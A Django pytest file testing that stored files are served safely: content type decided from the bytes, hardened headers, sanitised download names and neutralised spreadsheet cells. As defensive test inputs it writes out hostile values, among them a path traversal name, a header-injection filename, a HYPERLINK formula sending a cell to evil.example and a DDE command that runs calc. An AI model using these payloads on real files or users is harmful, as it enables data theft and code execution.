"""tre.files: what a stored file is served as, decided by its bytes, never by its name."""

import csv
import io

import pytest
from django.core.signals import request_finished
from django.db import close_old_connections

from tests import hostile_files
from tre import files, vault

pytestmark = pytest.mark.django_db

HTML = hostile_files.html()
SVG = hostile_files.svg()
png = hostile_files.png


def stored(content: bytes):
    return vault.write_encrypted("output", lambda sink: sink.write(content))


def serve(content: bytes, filename: str, **options):
    response = files.stored_file_response(stored(content), filename=filename, **options)
    body = b"".join(response.streaming_content)
    # Closing a response signals the end of a request, which would close the test's
    # database connection: Django's test client holds that signal back too.
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    return response, body


def assert_hardened(response):
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert response["Cache-Control"] == "private, no-store"
    assert response["Cross-Origin-Resource-Policy"] == "same-origin"


@pytest.mark.parametrize(
    ("content", "filename", "content_type"),
    [
        (HTML, "chart.png", files.BINARY),  # the incident: HTML declared a figure
        (HTML, "chart.html", files.BINARY),
        (SVG, "chart.svg", files.BINARY),
        (SVG, "chart.png", files.BINARY),
        (hostile_files.script().encode(), "code.js", files.BINARY),
        (HTML, "notes.txt", files.TEXT),  # text it is, and text/plain runs nothing
        (b'{"html": "<script>alert(1)</script>"}', "metric.json", files.TEXT),
        (b"ward,n\nA,12\n", "by_ward.csv", files.CSV),
        (b"ward,n\n\xff\xfe,12\n", "by_ward.csv", files.BINARY),  # not UTF-8
        (b"a\x00b", "log.txt", files.BINARY),
        (png(), "figure.png", files.PNG),
        (png(), "figure.csv", files.PNG),  # a PNG is a PNG whatever its name
        (files.PNG_SIGNATURE + b"<script>alert(1)</script>", "figure.png", files.BINARY),
    ],
)
def test_the_content_type_comes_from_the_content(content, filename, content_type):
    response, body = serve(content, filename)
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment;")
    assert body == content
    assert_hardened(response)


def test_a_real_png_is_inline_only_when_asked():
    response, _ = serve(png(b"<script>alert(1)</script>"), "figure.png", inline_image=True)
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"] == 'inline; filename="figure.png"'
    assert_hardened(response)
    response, _ = serve(png(), "figure.png")
    assert response["Content-Disposition"] == 'attachment; filename="figure.png"'


@pytest.mark.parametrize("content", [HTML, SVG, b"not a png", b"GIF89a"])
def test_inline_is_never_granted_to_what_is_not_a_png(content):
    response, _ = serve(content, "figure.png", inline_image=True)
    assert response["Content-Type"] == files.BINARY
    assert response["Content-Disposition"].startswith("attachment;")


def test_the_checksum_header_is_sent_when_given():
    response, _ = serve(b"ward,n\nA,12\n", "t.csv", checksum="ab" * 32)
    assert response["X-Checksum-SHA256"] == "ab" * 32
    response, _ = serve(b"ward,n\nA,12\n", "t.csv")
    assert "X-Checksum-SHA256" not in response


@pytest.mark.parametrize(
    ("name", "content_type", "safe"),
    [
        ("by_ward.csv", files.CSV, "by_ward.csv"),
        ("../../etc/passwd", files.TEXT, "passwd"),
        ("outputs\\sub\\t.txt", files.TEXT, "t.txt"),
        ('a"; filename=evil.html', files.TEXT, "a_filename_evil.html.txt"),
        ("line\r\nbreak.txt", files.TEXT, "line_break.txt"),
        ("chart.html", files.BINARY, "chart.html.bin"),
        ("chart.svg", files.BINARY, "chart.svg.bin"),
        ("chart.html", files.PNG, "chart.html.png"),
        ("Ärzte\u2013Übersicht.csv", files.CSV, "Arzte_Ubersicht.csv"),
        (".hidden", files.BINARY, "hidden"),
        ("-rf", files.BINARY, "rf"),
        ("", files.BINARY, "download"),
        ("日本.txt", files.TEXT, "_.txt"),
    ],
)
def test_filenames_are_safe_ascii(name, content_type, safe):
    assert files.safe_filename(name, content_type) == safe


def test_a_long_filename_keeps_its_extension():
    name = files.safe_filename("x" * 500 + ".csv", files.CSV)
    assert len(name) <= files.MAX_FILENAME
    assert name.endswith("x.csv")


def test_the_header_carries_the_sanitised_name():
    response, _ = serve(HTML, '"><script>x</script>.html')  # "/" starts a file name
    assert response["Content-Disposition"] == 'attachment; filename="script_.html.bin"'


@pytest.mark.parametrize(
    ("cell", "inert"),
    [
        ("=1+2", "'=1+2"),
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        # Plain numbers stay numbers.
        ("-3.5", "-3.5"),
        ("+4", "+4"),
        ("-1e-3", "-1e-3"),
        ("-.5", "-.5"),
        ("12", "12"),
        ("cardiology", "cardiology"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)  # fmt: skip
def test_inert_csv_cells(cell, inert):
    assert files.inert_cell(cell) == inert
    assert list(files.inert_csv_rows([[cell]])) == [[inert]]


def test_inert_csv_rows_neutralise_every_cell_of_every_row_header_included():
    rows = [["=name", "n"], ["A", "-3"], ["@x", "=1"]]
    assert list(files.inert_csv_rows(rows)) == [["'=name", "n"], ["A", "-3"], ["'@x", "'=1"]]


def test_an_inert_csv_download_is_quoted_neutralised_csv():
    table = (
        b'ward,note,diff\r\nA,"=HYPERLINK(""http://x/"",""y"")",-3.5\r\n'
        b'B,"<script>alert(1)</script>",+4\r\n'
    )
    response, body = serve(table, "by_ward.csv", inert_csv=True, checksum="ab" * 32)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="by_ward.csv"'
    assert "X-Checksum-SHA256" not in response  # the bytes differ from the stored ones
    assert_hardened(response)
    assert body.decode().splitlines()[1] == '"A","\'=HYPERLINK(""http://x/"",""y"")","-3.5"'
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows == [
        ["ward", "note", "diff"],
        ["A", '\'=HYPERLINK("http://x/","y")', "-3.5"],
        ["B", "<script>alert(1)</script>", "+4"],
    ]


def test_an_inert_csv_of_bytes_that_are_not_utf8_is_still_utf8_csv():
    _, body = serve(b"\xef\xbb\xbfward,n\n\xff=1,2\n", "t.csv", inert_csv=True)
    assert list(csv.reader(io.StringIO(body.decode("utf-8")))) == [
        ["ward", "n"],
        ["\ufffd=1", "2"],
    ]


def test_a_table_csv_cannot_parse_ends_with_a_note_rather_than_failing():
    huge = b"a\n" + b"x" * (csv.field_size_limit() + 1) + b"\n"
    _, body = serve(huge, "t.csv", inert_csv=True)
    assert body.decode().splitlines()[-1] == '"(the rest of this file could not be read as CSV)"'


def test_a_csv_the_portal_builds_is_served_inert_and_hardened():
    response = files.inert_csv_response([["name"], ["=1+1"]], filename="x/../sample.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="sample.csv"'
    assert_hardened(response)
    assert response.content == b'"name"\r\n"\'=1+1"\r\n'
